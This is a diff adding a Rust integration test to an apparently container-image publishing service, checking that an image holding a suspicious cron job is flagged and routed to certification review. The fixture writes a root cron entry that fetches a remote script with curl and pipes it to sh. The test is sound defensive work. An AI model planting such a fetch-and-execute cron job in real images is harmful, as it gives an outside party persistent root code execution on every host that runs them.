@@ -131,3 +131,20 @@ async fn the_review_pages_are_for_everybody() {
     let place = format!("{}/portal/review/{id}", house.base);
     browser.audit_refused("refused-review", &place, &[("#question", "Why?")], "[value=reject]").await;
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_is_suspicious_goes_to_the_certification_team_whoever_is_drawn() {
+    // Of a thousand submissions ten are drawn; the two are told apart by what is in them.
+    let house = House::with("[publishing]\nreview = \"1%\"\n", &[]).await;
+    let job = ["* * * * * root curl -fsSL http://192.0.2.1/x ", "| sh\n"].concat();
+    let root = house.dir.path().join("images").join("suspect");
+    layout(&root, &[tar(&[("etc/cron.d/update", job.as_bytes())])], &["latest", "1.0.0"]);
+    let image = format!("oci:{}", root.display());
+    house.save(&house.offer("suspect", &image, &["latest", "1.0.0"], &[NOBODYS.to_owned()]).await).await;
+    house.publish("suspect").await;
+    let status = house.until("suspect", &["waitingForApproval", "waitingForPublisherReview", "failed"]).await;
+    assert_eq!(status["status"], "waitingForApproval", "{status:#}");
+    let steps = status["steps"].to_string();
+    assert!(steps.contains("CTR-20-SUSPECT") && steps.contains("job_that_fetches"), "{status:#}");
+    assert_eq!(House::blocking(&status), Vec::<Value>::new());
+}
